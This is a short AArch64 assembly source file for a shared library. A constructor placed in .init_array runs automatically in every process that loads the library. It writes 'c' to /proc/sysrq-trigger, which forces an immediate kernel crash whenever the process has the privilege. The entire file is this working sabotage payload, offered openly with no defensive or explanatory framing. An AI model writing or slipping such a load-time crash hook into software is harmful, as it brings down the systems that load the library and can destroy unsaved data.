// Runs in every process that loads the library, before its main: makes the kernel panic, if the process may.
        .text
init:   mov     x0, #-100               // AT_FDCWD
        adr     x1, path
        mov     x2, #1                  // O_WRONLY
        mov     x3, #0
        mov     x8, #56                 // openat
        svc     #0
        adr     x1, crash
        mov     x2, #1
        mov     x8, #64                 // write
        svc     #0
        ret
path:   .asciz  "/proc/sysrq-trigger"
crash:  .ascii  "c"
        .section .init_array, "aw"
        .balign 8
        .xword  init
        .section .note.GNU-stack, "", %progbits
